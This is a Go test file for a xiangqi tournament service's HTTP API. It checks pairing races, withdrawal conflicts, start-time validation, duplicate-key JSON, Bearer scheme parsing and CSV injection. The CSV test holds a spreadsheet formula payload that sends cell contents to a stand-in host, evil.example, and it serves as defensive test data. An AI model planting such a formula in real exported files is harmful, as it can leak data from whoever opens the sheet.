package httpapi_test

import (
	"net/http"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/xqtour/xqtour/shared/httpapi/apitest"
	"github.com/xqtour/xqtour/shared/store/embedded"
)

// S-6: a player withdrawn while round 1 is being paired — after the pairing
// read the players, before it stored the round — must not be paired: the
// pairing loses the race and pairs again from the new state.
func TestWithdrawDuringPairingIsNotPaired(t *testing.T) {
	for _, action := range []string{"withdraw", "pause"} {
		t.Run(action, func(t *testing.T) {
			s := apitest.New(t)
			ev := newEvent(t, s, `{"name":"Race Open","rounds":5}`)
			var ids []string
			for _, name := range []string{"A", "B", "C", "D", "E"} {
				var p created
				s.Post("/tournaments/"+ev.ID+"/players", ev.Token, map[string]any{"name": name}).Want(t, http.StatusCreated).Decode(t, &p)
				ids = append(ids, p.ID)
			}
			leaver := ids[0]
			var fired atomic.Bool
			var during *apitest.Resp
			s.DB.Intercept(func(op string, _ []byte) embedded.Fault {
				if op == "TransactWriteItems" && fired.CompareAndSwap(false, true) {
					during = s.Post("/tournaments/"+ev.ID+"/players/"+leaver+"/"+action, ev.Token, nil)
				}
				return embedded.Serve
			})
			r := s.Post("/tournaments/"+ev.ID+"/rounds", ev.Token, `{}`)
			s.DB.Intercept(nil)
			if during == nil || during.Status != http.StatusOK {
				t.Fatalf("%s during the pairing: %v", action, during)
			}
			var round struct {
				Pairings []struct{ Red, Black string }
				Byes     []string
			}
			r.Want(t, http.StatusCreated).Decode(t, &round)
			for _, p := range round.Pairings {
				if p.Red == leaver || p.Black == leaver {
					t.Fatalf("the player who left (%s) was paired in round 1: %s", action, r.Body)
				}
			}
			if len(round.Pairings) != 2 {
				t.Fatalf("four players left should make two tables: %s", r.Body)
			}
		})
	}
}

// A round's startsAt starts its games' clocks (C-6): a start decades off
// (a typo) would lose every game on time at its first read. It is refused
// as malformed and nothing is paired; a start minutes ago is a late pairing.
func TestPairRoundRefusesStartFarFromNow(t *testing.T) {
	s := apitest.New(t)
	ev := newEvent(t, s, `{"name":"Typo Open","rounds":3,"timeControl":"rapid-5/30"}`)
	for _, name := range []string{"A", "B"} {
		s.Post("/tournaments/"+ev.ID+"/players", ev.Token, map[string]any{"name": name}).Want(t, http.StatusCreated)
	}
	before := tableItems(t, s.Store)
	for _, at := range []string{"0001-01-01T00:00:00Z", "1969-12-31T23:59:59Z", "2026-11-27T08:59:00Z", "2031-01-01T00:00:00Z"} {
		r := s.Post("/tournaments/"+ev.ID+"/rounds", ev.Token, map[string]any{"startsAt": at})
		if r.Status != http.StatusBadRequest || r.ErrorCode() != "invalid_field" {
			t.Errorf("startsAt %s: %d %s", at, r.Status, r.Body)
		}
	}
	if after := tableItems(t, s.Store); after != before {
		t.Fatalf("refused pairings changed the table: %d items, then %d", before, after)
	}
	var round struct {
		Pairings []struct {
			GameID string `json:"gameId"`
		}
	}
	s.Post("/tournaments/"+ev.ID+"/rounds", ev.Token, `{"startsAt":"2026-11-28T08:58:00Z"}`).Want(t, http.StatusCreated).Decode(t, &round)
	if g := s.Get("/games/" + round.Pairings[0].GameID).JSON(); g["result"] != nil {
		t.Fatalf("a round started two minutes ago (five-minute games) ended at once: %v", g["result"])
	}
}

// O-1: an organiser's change of round 1 races the round's start (after
// which its games' clocks run and moves may come), or the pairing of round 2.
// Whichever lands first wins and the change is a 409: never a round whose
// table names players other than its game's, never a changed round that has
// started, and never a change to a round that is no longer the latest.
func TestRoundChangeRacingTheStartOrThePairing(t *testing.T) {
	for _, racer := range []string{"start", "pairing"} {
		t.Run(racer, func(t *testing.T) {
			s := apitest.New(t)
			ev := newEvent(t, s, `{"name":"Change Race","rounds":5}`)
			tokens := map[string]string{}
			for _, name := range []string{"A", "B", "C", "D"} {
				var p created
				s.Post("/tournaments/"+ev.ID+"/players", ev.Token, map[string]any{"name": name}).Want(t, http.StatusCreated).Decode(t, &p)
				tokens[p.ID] = p.Token
			}
			var round struct {
				Pairings []struct {
					Table      int
					Red, Black string
					GameID     string `json:"gameId"`
				}
			}
			s.Post("/tournaments/"+ev.ID+"/rounds", ev.Token, `{}`).Want(t, http.StatusCreated).Decode(t, &round)
			p := round.Pairings[0]
			var fired atomic.Bool
			var during *apitest.Resp
			s.DB.Intercept(func(op string, _ []byte) embedded.Fault {
				// The change's write: a transaction now, a PutItem before.
				if (op == "PutItem" || op == "TransactWriteItems") && fired.CompareAndSwap(false, true) {
					if racer == "start" {
						during = s.Post("/tournaments/"+ev.ID+"/rounds/1/start", ev.Token, nil)
					} else {
						during = s.Post("/tournaments/"+ev.ID+"/rounds", ev.Token, `{"unfinishedAsDraws":true}`)
					}
				}
				return embedded.Serve
			})
			change := s.Post("/tournaments/"+ev.ID+"/rounds/1/changes", ev.Token, map[string]any{"action": "swapColours", "table": p.Table})
			s.DB.Intercept(nil)
			if during == nil || during.Status >= 300 {
				t.Fatalf("the %s during the change: %v", racer, during)
			}
			if change.Status != http.StatusConflict {
				t.Errorf("the change that lost the race: %d %s; want 409", change.Status, change.Body)
			}
			if cur, _ := change.JSON()["current"].(map[string]any); cur == nil || cur["round"] != 1.0 {
				t.Errorf("the 409 carries no current round (the OpenAPI document): %s", change.Body)
			}
			s.Get("/tournaments/"+ev.ID+"/rounds/1").Want(t, http.StatusOK).Decode(t, &round)
			g := s.Get("/games/" + p.GameID).JSON()
			if round.Pairings[0].Red != p.Red || g["started"] != true && racer == "start" {
				t.Fatalf("round 1 table 1 now red %s (was %s), game started %v", round.Pairings[0].Red, p.Red, g["started"])
			}
			if racer == "start" {
				s.Post("/games/"+p.GameID+"/moves", tokens[p.Red], `{"move":"h2e2","ply":0}`).Want(t, http.StatusOK)
			}
		})
	}
}

// A body naming a field twice is refused (400), not read as its last value:
// a proxy or log that reads the first would see another request. A body
// that is not an object (null, an array) is malformed too. Nothing changes.
func TestDuplicateKeysAndNonObjectBodiesAreRefused(t *testing.T) {
	s := apitest.New(t)
	ev := newEvent(t, s, `{"name":"Dup Open","rounds":3}`)
	before := tableItems(t, s.Store)
	for _, tc := range []struct{ path, body, code string }{
		{"/tournaments/" + ev.ID + "/players", `{"name":"Li","name":"Wang"}`, "duplicate_field"},
		{"/tournaments", `{"name":"A","rounds":3,"rules":{"repetition":"ruling","repetition":"threefoldDraw"}}`, "duplicate_field"},
		{"/games", `{"timeControl":{"periods":[{"moves":0,"ms":1000,"ms":2000}]}}`, "duplicate_field"},
		{"/games", `null`, "malformed_json"},
		{"/games", `[]`, "malformed_json"},
	} {
		r := s.Do(apitest.Req{Method: "POST", Path: tc.path, Token: ev.Token, Body: tc.body, Invalid: true})
		if r.Status != http.StatusBadRequest || r.ErrorCode() != tc.code {
			t.Errorf("%s %s: %d %s; want 400 %s", tc.path, tc.body, r.Status, r.Body, tc.code)
		}
	}
	if after := tableItems(t, s.Store); after != before {
		t.Fatalf("refused bodies changed the table: %d items, then %d", before, after)
	}
	// The same names at different depths are not duplicates.
	s.Post("/tournaments", "", `{"name":"Nested","rounds":3,"timeControl":{"periods":[{"moves":40,"ms":60000},{"moves":0,"ms":60000}]}}`).Want(t, http.StatusCreated)
}

// RFC 7235: the authentication scheme is case-insensitive, so "bearer" and
// "BEARER" carry a token as "Bearer" does; another scheme is no token (401).
func TestBearerSchemeIsCaseInsensitive(t *testing.T) {
	s := apitest.New(t)
	ev := newEvent(t, s, `{"name":"Scheme Open","rounds":3}`)
	for _, h := range []string{"bearer " + ev.Token, "BEARER " + ev.Token, "Bearer  " + ev.Token + " "} {
		r := s.Do(apitest.Req{Method: "POST", Path: "/tournaments/" + ev.ID + "/players", Body: map[string]any{"name": h[:6]}, Header: map[string]string{"Authorization": h}})
		if r.Status != http.StatusCreated {
			t.Errorf("Authorization %q: %d %s", h[:8], r.Status, r.Body)
		}
	}
	r := s.Do(apitest.Req{Method: "POST", Path: "/tournaments/" + ev.ID + "/players", Body: `{"name":"X"}`, Header: map[string]string{"Authorization": "Basic " + ev.Token}})
	if r.Status != http.StatusUnauthorized {
		t.Errorf("Basic scheme: %d %s", r.Status, r.Body)
	}
}

// A withdrawal that loses its race with a pairing (the round paired between
// its read and its write) is a 409 carrying the player as it is now.
func TestWithdrawLosingToPairingIs409WithCurrentState(t *testing.T) {
	s := apitest.New(t)
	ev := newEvent(t, s, `{"name":"Late Leaver","rounds":5}`)
	var ids []string
	for _, name := range []string{"A", "B", "C", "D"} {
		var p created
		s.Post("/tournaments/"+ev.ID+"/players", ev.Token, map[string]any{"name": name}).Want(t, http.StatusCreated).Decode(t, &p)
		ids = append(ids, p.ID)
	}
	var fired atomic.Bool
	s.DB.Intercept(func(op string, _ []byte) embedded.Fault {
		if op == "TransactWriteItems" && fired.CompareAndSwap(false, true) {
			s.Post("/tournaments/"+ev.ID+"/rounds", ev.Token, `{}`).Want(t, http.StatusCreated)
		}
		return embedded.Serve
	})
	r := s.Post("/tournaments/"+ev.ID+"/players/"+ids[0]+"/withdraw", ev.Token, nil)
	s.DB.Intercept(nil)
	cur, _ := r.JSON()["current"].(map[string]any)
	if r.Status != http.StatusConflict || cur == nil || cur["player"].(map[string]any)["status"] != "active" {
		t.Fatalf("withdrawal that lost to the pairing: %d %s", r.Status, r.Body)
	}
}

// CSV injection: a name that a spreadsheet would run as a formula is
// written to the standings CSV as text; the JSON keeps it as entered.
func TestStandingsCSVKeepsFormulaNamesAsText(t *testing.T) {
	s := apitest.New(t)
	ev := newEvent(t, s, `{"name":"CSV Open","rounds":3}`)
	evil := `=HYPERLINK("http://evil.example/?"&A1,"x")`
	for _, name := range []string{evil, "+SUM(1)", "Li"} {
		s.Post("/tournaments/"+ev.ID+"/players", ev.Token, map[string]any{"name": name}).Want(t, http.StatusCreated)
	}
	s.Post("/tournaments/"+ev.ID+"/rounds", ev.Token, `{}`).Want(t, http.StatusCreated)
	out := string(s.Get("/tournaments/"+ev.ID+"/standings?format=csv").Want(t, http.StatusOK).Body)
	for _, line := range strings.Split(out, "\n") {
		for _, cell := range strings.Split(line, ",") {
			if c := strings.TrimPrefix(cell, `"`); c != "" && strings.ContainsRune("=+@", rune(c[0])) {
				t.Fatalf("a cell a spreadsheet would run: %q in\n%s", cell, out)
			}
		}
	}
	if !strings.Contains(out, `'+SUM(1)`) {
		t.Fatalf("the name is not kept as text:\n%s", out)
	}
	if js := string(s.Get("/tournaments/" + ev.ID + "/standings").Body); !strings.Contains(js, `"=HYPERLINK`) {
		t.Fatalf("the JSON standings changed the name: %s", js)
	}
}
